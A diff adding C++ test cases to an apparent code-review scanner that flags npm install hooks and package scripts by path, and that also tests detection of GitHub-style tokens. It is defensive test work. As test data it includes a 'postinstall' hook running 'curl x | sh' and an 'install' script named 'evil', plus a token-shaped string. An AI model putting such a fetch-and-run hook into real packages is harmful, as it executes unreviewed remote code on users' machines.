@@ -125,6 +125,35 @@ TEST_CASE("every script that npm runs at an install is a danger") {
   }
 }
 
+TEST_CASE("what npm install brings is a danger only where npm runs it") {
+  const std::string author =
+      R"("prepare":"tsc","prepublish":"x","lint":"a","test":"b","pretest":"c")";
+  auto scripts = [](const std::string& name, const std::string& members) {
+    return added(name, "{\"scripts\":{" + members + "," + R"("x":"y"}})");
+  };
+  CHECK(scripts("node_modules/a/package.json", author) ==
+        Codes{"info package-script"});
+  CHECK(scripts("web/node_modules/@b/c/package.json",
+                author + R"(,"postinstall":"curl x | sh")") ==
+        Codes{"danger package-hook", "info package-script"});
+  CHECK(scripts("a_node_modules/package.json", author) ==
+        Codes{"danger package-hook", "warn package-script"});
+}
+
+TEST_CASE("many scripts of one package are one risk that names them") {
+  MemoryView view;
+  view.change("package.json", file(R"({"scripts":{"a":"1","b":"2","c":"3",)"
+                                   R"("d":"4","e":"5","f":"6","g":"7",)"
+                                   R"("h":"8","i":"9","install":"evil"}})"));
+  auto risks = build(view).changes[0].risks;
+  REQUIRE(risks.size() == 2);
+  CHECK(risks[0].message ==
+        "script \"install\" executes on host unasked at install: evil");
+  CHECK(risks[1].message ==
+        "scripts \"a\", \"b\", \"c\", \"d\", \"e\", \"f\", \"g\", \"h\" and 1 "
+        "more execute on host when called");
+}
+
 TEST_CASE("secrets of the well known kinds are dangers when added") {
   std::string token =
       "ghp_" + std::string("a8Kq2LmZ9xVbT4nRy7WcD1eFg5HjS3uPo6Qi");
